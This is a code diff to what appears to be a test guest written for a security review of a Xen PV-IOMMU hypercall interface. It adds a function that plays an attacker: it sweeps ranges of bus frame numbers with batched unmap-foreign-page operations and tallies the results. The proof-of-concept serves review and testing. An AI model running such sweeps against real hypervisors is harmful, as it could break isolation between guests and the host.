@@ -138,6 +138,42 @@ static void one(unsigned int i, const uint64_t *p)
 	results.op[i].flags = op.flags;
 }
 
+static struct pv_iommu_op sweep_ops[PVG_SWEEP];
+
+/*
+ * The review's attacker does not know dom0's BFNs: it sweeps.  One call of
+ * PVG_SWEEP ops, so that Xen may preempt it and continue on the rest.
+ */
+static void sweep(const uint64_t *p)
+{
+	struct pv_iommu_op *op = sweep_ops;
+	const uint64_t at[2] = { p[P_FGNB], p[P_LOOKB] };
+
+	for (unsigned int a = 0; a < 2; a++)
+		for (unsigned int b = 0; b < PVG_SWEEP_BFNS; b++)
+			for (unsigned int i = 0; i < PVG_SWEEP_IOS; i++, op++) {
+				memset(op, 0, sizeof(*op));
+				op->subop_id = IOMMUOP_unmap_foreign_page;
+				op->status = 1;
+				op->u.unmap_foreign_page.bfn =
+					at[a] - PVG_SWEEP_BFNS / 2 + b;
+				op->u.unmap_foreign_page.ioserver =
+					(uint16_t)i;
+			}
+	results.sweep_rc = hcall(PV_IOMMU_HYPERCALL_DEFAULT,
+				 (unsigned long)sweep_ops, PVG_SWEEP, 0);
+	results.sweep_enoent = 0;
+	for (unsigned int i = 0, other = 0; i < PVG_SWEEP; i++) {
+		if (sweep_ops[i].status == PVG_ENOENT) {
+			results.sweep_enoent++;
+		} else if (!other++) {
+			results.sweep_other = sweep_ops[i].status;
+			results.sweep_other_bfn =
+				sweep_ops[i].u.unmap_foreign_page.bfn;
+		}
+	}
+}
+
 void guest_main(const start_info_t *si);
 
 void guest_main(const start_info_t *si)
@@ -153,6 +189,7 @@ void guest_main(const start_info_t *si)
 			one(i, results.params);
 			results.nops = i + 1;
 		}
+		sweep(results.params);
 		memset(&op, 0, sizeof(op));
 		op.subop_id = IOMMUOP_query_caps;
 		results.big_count = hcall(PV_IOMMU_HYPERCALL_DEFAULT,
